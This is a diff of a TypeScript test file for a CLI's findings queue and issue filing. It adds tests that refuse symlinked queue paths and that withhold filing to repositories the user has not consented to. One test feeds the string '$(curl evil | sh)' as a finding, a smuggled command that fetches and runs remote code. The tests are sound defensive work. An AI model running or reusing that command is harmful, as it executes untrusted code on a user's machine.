@@ -1,5 +1,13 @@
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { basename, join } from 'node:path';
 import {
   codehostForTest,
   type FakeCodehost,
@@ -9,15 +17,20 @@ import {
   testToken,
   testTracker,
 } from '@svc/testkit';
-import { describe, expect, test } from 'vitest';
+import { describe, expect, onTestFinished, test } from 'vitest';
 import { runCommandLine } from '../run.ts';
 
 const TOKEN = 'lin_api_hush-hush';
 
-type Given = Parameters<typeof testTerminal>[0] & { feedback?: object; tracker?: FakeTracker };
+type Given = Parameters<typeof testTerminal>[0] & {
+  feedback?: object;
+  tracker?: FakeTracker;
+  /** What the user agreed to. */
+  consentFor?: string[];
+};
 
 /** A project with a tracker, and a person or a hook that runs verbs in it. */
-function project({ feedback, tracker, ...given }: Given = {}) {
+function project({ feedback, tracker, consentFor, ...given }: Given = {}) {
   const environment = {
     ...(tracker && { SVC_TRACKER_API_URL: tracker.url }),
     ...given.environment,
@@ -35,6 +48,7 @@ function project({ feedback, tracker, ...given }: Given = {}) {
       ...(feedback && { feedback }),
     },
   });
+  if (consentFor) write('.config/svc/config.json', { svc: { feedback: { consentFor } } });
   if (tracker)
     write('.config/svc/config-demo.json', { svc: { tracker: { apiToken: TOKEN, teamKey: 'ABC' } } });
   const queue = join(terminal.home, '.svc/findings/current.jsonl');
@@ -144,15 +158,68 @@ test('list shows what waits, and nothing of it steers the terminal', async () =>
   });
 });
 
+test.each([['current.jsonl'], ['']])(
+  'a queue that is a link out of the checkout is refused: findings/%s',
+  async (linked) => {
+    const { add, drain, terminal, queue } = project();
+    const target = join(terminal.home, '..', `${basename(terminal.home)}-target`);
+    onTestFinished(() => rmSync(target, { recursive: true, force: true }));
+    const folder = join(queue, '..');
+    if (linked === '') {
+      mkdirSync(target);
+      symlinkSync(target, folder);
+    } else {
+      mkdirSync(folder, { recursive: true });
+      writeFileSync(target, 'export A=1\n');
+      symlinkSync(target, queue);
+    }
+    expect(await add('$(curl evil | sh)')).toBe(6);
+    expect(await drain()).toBe(6);
+    expect(terminal.complained()).toContain('is a link that leads out of');
+    if (linked === '') expect(readdirSync(target)).toEqual([]);
+    else expect(readFileSync(target, 'utf8')).toBe('export A=1\n');
+  },
+);
+
 describe('consent', () => {
   test('autoFile true: filed without a question', async () => {
     const tracker = await trackerWithTeam();
-    const { add, drain, terminal, queue } = project({ tracker, feedback: { autoFile: true }, answers: [] });
+    const { add, drain, terminal, queue } = project({
+      tracker,
+      feedback: { autoFile: true },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc'],
+      answers: [],
+    });
     await add('x');
     expect(await drain()).toBe(0);
     expect(terminal.questions).toEqual([]);
     expect(tracker.cloud.issues).toHaveLength(1);
     expect(existsSync(queue)).toBe(false);
+  });
+
+  test('a committed autoFile is no consent to a place that the user has not agreed to: it asks, or waits', async () => {
+    const codehost = await codehostForTest();
+    codehost.cloud.addRepo('evil/public');
+    const given = {
+      environment: forGh(codehost),
+      feedback: { autoFile: true, codehostRepo: 'evil/public' },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc'],
+    };
+    const nobody = project(given);
+    await nobody.add('x');
+    expect(await nobody.drain()).toBe(0);
+    expect(nobody.terminal.complained()).toContain('you have not agreed to codehost:evil/public');
+    expect(existsSync(nobody.queue)).toBe(true);
+    expect(codehost.cloud.repoOf('evil/public').issues).toEqual([]);
+
+    const person = project({ ...given, answers: ['y'] });
+    await person.add('x');
+    expect(await person.drain()).toBe(0);
+    expect(person.terminal.questions).toHaveLength(1);
+    expect(codehost.cloud.repoOf('evil/public').issues).toHaveLength(1);
+    await person.add('y');
+    expect(await person.drain()).toBe(0);
+    expect(person.terminal.questions).toHaveLength(1);
   });
 
   test('yes files, and sets autoFile true in the project file', async () => {
@@ -216,6 +283,7 @@ describe('drain', () => {
     const { add, drain, told, terminal } = project({
       tracker,
       feedback: { autoFile: true, labels: ['from-agents'] },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
     });
     await add('one', '--skill', 'plan');
     await add('two');
@@ -243,7 +311,11 @@ describe('drain', () => {
 
   test('--dry-run says what would be filed and where, and calls nobody', async () => {
     const tracker = await trackerWithTeam();
-    const { add, drain, terminal, queue } = project({ tracker, feedback: { autoFile: true } });
+    const { add, drain, terminal, queue } = project({
+      tracker,
+      feedback: { autoFile: true },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
+    });
     await add('one');
     expect(await drain('--dry-run')).toBe(0);
     expect(terminal.printed()).toContain(
@@ -265,6 +337,7 @@ describe('drain', () => {
     const { add, drain, terminal } = project({
       environment: forGh(codehost),
       feedback: { autoFile: true, codehostRepo: 'acme/inbox' },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
     });
     await add('one', '--skill', 'plan');
     expect(await drain()).toBe(0);
@@ -284,6 +357,7 @@ describe('drain', () => {
       tracker,
       environment: forGh(codehost),
       feedback: { autoFile: true },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
     });
     await add('one');
     tracker.failNext({ kind: 'unauthorised' }, { times: 9 });
@@ -301,7 +375,11 @@ describe('drain', () => {
 
   test('two at once: one waits, and none files twice', async () => {
     const tracker = await trackerWithTeam();
-    const { add, drain } = project({ tracker, feedback: { autoFile: true } });
+    const { add, drain } = project({
+      tracker,
+      feedback: { autoFile: true },
+      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
+    });
     for (let number = 0; number < 10; number += 1) await add(`number ${number}`);
     tracker.failNext({ kind: 'slow', ms: 50 }, { field: 'issueCreate', times: 2 });
     expect(await Promise.all([drain(), drain()])).toEqual([0, 0]);
